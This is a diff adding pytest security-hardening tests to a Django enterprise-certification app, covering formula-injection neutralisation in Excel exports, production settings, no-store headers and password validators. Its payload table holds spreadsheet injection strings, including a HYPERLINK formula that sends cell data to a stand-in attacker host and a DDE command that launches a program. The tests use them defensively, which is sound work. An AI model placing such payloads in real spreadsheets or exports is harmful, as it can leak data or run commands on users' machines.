@@ -1,0 +1,226 @@
+"""Hardening (issue 9): formula injection in exports, production settings, no-store on personal data and files,
+API tokens with an expiry, the lockout, read audit, password validators."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import os
+import secrets
+import subprocess
+import sys
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gaoqi.web import roles
+from tests.web.conftest import HAIDIAN, PASSWORD, login
+
+REPO = Path(__file__).resolve().parents[2]
+
+
+@pytest.fixture()
+def fast_hasher(settings: Any) -> None:
+    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
+
+
+def _haidian() -> Any:
+    from gaoqi.web.enterprises.models import Enterprise
+
+    e = Enterprise.objects.filter(district_code=HAIDIAN).order_by("uscc").first()
+    assert e is not None
+    return e
+
+
+def _certificate(uscc: str) -> Any:
+    from gaoqi.web.certification.models import Certificate
+
+    return Certificate.objects.create(
+        number="GR202611000001",
+        uscc=uscc,
+        enterprise_name="测试企业",
+        tech_field="电子信息",
+        issue_date=dt.date(2025, 12, 1),
+        expiry_date=dt.date(2028, 11, 30),
+    )
+
+
+# 1. formula injection ------------------------------------------------------------------------------------------
+
+PAYLOADS = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "industry_code": "@SUM(1)",
+    "status": "+cmd|' /C calc'!A0",
+    "former_names": "",
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("fast_hasher")
+def test_export_neutralises_formulas_and_keeps_numbers(users: dict[str, Any]) -> None:
+    from openpyxl import load_workbook
+
+    from gaoqi.web.enterprises.models import Enterprise
+    from gaoqi.web.enterprises.services import EXPORT_COLUMNS
+
+    e = _haidian()
+    Enterprise.objects.filter(pk=e.pk).update(
+        name=PAYLOADS["name"], industry_code="@SUM(1)", status="-2+3", staff=Decimal("-5"), sales_last_year=None
+    )
+    other = Enterprise.objects.filter(district_code=HAIDIAN).exclude(pk=e.pk).order_by("uscc").first()
+    assert other is not None
+    Enterprise.objects.filter(pk=other.pk).update(name="\t=1+1", status="\r=2", industry_code="+1")
+    r = login(users[roles.DISTRICT]).get("/enterprises/export.xlsx")
+    assert r.status_code == 200
+    ws = load_workbook(io.BytesIO(r.content)).active
+    assert ws is not None
+    header = [c.value for c in ws[1]]
+    col = {field: header.index(label) for field, label in EXPORT_COLUMNS}
+    rows = {row[col["uscc"]].value: row for row in ws.iter_rows(min_row=2)}
+    mine, theirs = rows[e.uscc], rows[other.uscc]
+    for row, field, original in (
+        (mine, "name", PAYLOADS["name"]),
+        (mine, "industry_code", "@SUM(1)"),
+        (mine, "status", "-2+3"),
+        (theirs, "name", "\t=1+1"),
+        (theirs, "status", "\r=2"),
+        (theirs, "industry_code", "+1"),
+    ):
+        c = row[col[field]]
+        assert c.data_type == "s", (field, c.data_type)  # text, not a formula ("f")
+        # (XML stores a carriage return as a line feed: the character after the quote is the original's)
+        assert c.value == "'" + original.replace("\r", "\n"), field
+    staff = mine[col["staff"]]
+    assert staff.data_type == "n" and staff.value == -5  # a negative number stays a number
+    # an ordinary name is untouched
+    plain = next(r for u, r in rows.items() if u not in (e.uscc, other.uscc))
+    assert not str(plain[col["name"]].value).startswith("'")
+
+
+def test_cell_helper() -> None:
+    from gaoqi.web.exports import cell
+
+    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
+        assert cell(text) == "'" + text
+    assert (
+        cell("北京=") == "北京=" and cell(-3) == -3 and cell(Decimal("-1.5")) == Decimal("-1.5") and cell(None) is None
+    )
+
+
+# 2. configuration ----------------------------------------------------------------------------------------------
+
+
+def _production_env(**extra: str) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("GAOQI_", "DJANGO_"))}
+    env.update(
+        PYTHONPATH=str(REPO / "src"),
+        GAOQI_HOME=str(REPO / "var" / "deploy-check"),
+        GAOQI_SECRET_KEY=secrets.token_urlsafe(48),
+        GAOQI_AUDIT_KEY=secrets.token_urlsafe(48),
+        GAOQI_ALLOWED_HOSTS="gaoqi.kw.beijing.gov.cn",
+    )
+    env.update(extra)
+    return env
+
+
+def _manage(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
+    code = "from gaoqi.web.manage import main; main()"
+    return subprocess.run(
+        [sys.executable, "-c", code, *args], env=env, capture_output=True, text=True, timeout=120, check=False
+    )
+
+
+def test_check_deploy_with_production_settings_is_clean() -> None:
+    r = _manage(_production_env(), "check", "--deploy", "--fail-level", "WARNING")
+    out = r.stdout + r.stderr
+    assert r.returncode == 0, out
+    assert "System check identified no issues (0 silenced)." in out, out
+    assert "WARNINGS" not in out and "ERRORS" not in out
+
+
+@pytest.mark.parametrize(
+    ("extra", "message"),
+    [
+        ({"GAOQI_SECRET_KEY": "", "GAOQI_AUDIT_KEY": ""}, "set GAOQI_SECRET_KEY in production"),
+        ({"GAOQI_AUDIT_KEY": ""}, "set both GAOQI_SECRET_KEY and GAOQI_AUDIT_KEY"),
+        ({"GAOQI_AUDIT_KEY": "", "GAOQI_DEBUG": "1"}, "set both GAOQI_SECRET_KEY and GAOQI_AUDIT_KEY"),
+        ({"GAOQI_SECRET_KEY": "short-but-set-0123456789"}, "GAOQI_SECRET_KEY is too short"),
+        ({"GAOQI_AUDIT_KEY": "gaoqi-demo-audit-key" + "x" * 40}, "set GAOQI_AUDIT_KEY in production"),
+    ],
+)
+def test_production_refuses_missing_short_or_demo_keys(extra: dict[str, str], message: str) -> None:
+    env = {k: v for k, v in _production_env(**extra).items() if v != ""}
+    r = _manage(env, "check")
+    assert r.returncode != 0
+    assert message in r.stderr, r.stderr
+
+
+def test_debug_is_off_unless_asked_for() -> None:
+    code = "import gaoqi.web.settings as s; print(s.DEBUG, s.SESSION_COOKIE_SECURE, s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS)"
+    r = subprocess.run([sys.executable, "-c", code], env=_production_env(), capture_output=True, text=True, check=False)
+    assert r.stdout.split() == ["False", "True", "True", str(365 * 24 * 3600)], r.stderr
+    # the demo (make run) says so, and then runs with the demo keys
+    env = {
+        k: v for k, v in _production_env(GAOQI_DEBUG="1").items() if k not in ("GAOQI_SECRET_KEY", "GAOQI_AUDIT_KEY")
+    }
+    code = "import gaoqi.web.settings as s; print(s.DEBUG, s.AUDIT_CHAIN_KEY)"
+    r = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=False)
+    assert r.stdout.split() == ["True", "gaoqi-demo-audit-key"], r.stderr
+
+
+def test_makefile_run_is_the_explicit_demo() -> None:
+    text = (REPO / "Makefile").read_text()
+    assert "run: export GAOQI_DEBUG ?= 1" in text
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("fast_hasher")
+def test_no_store_on_personal_data_exports_and_certificates(users: dict[str, Any]) -> None:
+    e = _haidian()
+    c = login(users[roles.DISTRICT])
+    m = login(users[roles.MUNICIPAL])
+    cert = _certificate(e.uscc)
+    for client, method, url in (
+        (c, "get", f"/enterprises/{e.uscc}/"),
+        (c, "post", f"/enterprises/{e.uscc}/reveal/"),
+        (c, "get", "/enterprises/export.xlsx"),
+        (m, "get", f"/certification/certificates/{cert.pk}.pdf"),
+    ):
+        r = getattr(client, method)(url)
+        assert r.status_code == 200, url
+        assert "no-store" in r["Cache-Control"], url
+    # an ordinary page is not affected
+    assert "no-store" not in login(users[roles.DISTRICT]).get("/enterprises/").get("Cache-Control", "")
+
+
+# 6. password validators ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_user_create_and_password_set_run_the_validators(db: Any) -> None:
+    from django.core.exceptions import ValidationError
+
+    from gaoqi.web.accounts.models import User
+    from gaoqi.web.accounts.services import user_create, user_password_set
+    from gaoqi.web.audit.models import AuditEvent
+
+    with pytest.raises(ValidationError) as refused:
+        user_create(None, username="weak", password="1", role=roles.EXPERT)
+    text = " ".join(refused.value.messages)
+    assert "密码" in text and "太短" in text, text
+    assert not User.objects.filter(username="weak").exists()
+    assert not AuditEvent.objects.filter(action="user.create").exists()
+    for weak in ("password123", "12345678901"):  # common, all digits
+        with pytest.raises(ValidationError):
+            user_create(None, username="weak", password=weak, role=roles.EXPERT)
+    user = user_create(None, username="strong", password=PASSWORD, role=roles.EXPERT)
+    with pytest.raises(ValidationError):
+        user_password_set(user, user, "1")
+    user.refresh_from_db()
+    assert user.check_password(PASSWORD)
+    user_password_set(user, user, "another-good-passphrase")
+    user.refresh_from_db()
+    assert user.check_password("another-good-passphrase")
+    assert AuditEvent.objects.filter(action="user.password_set", target="user:strong").count() == 1
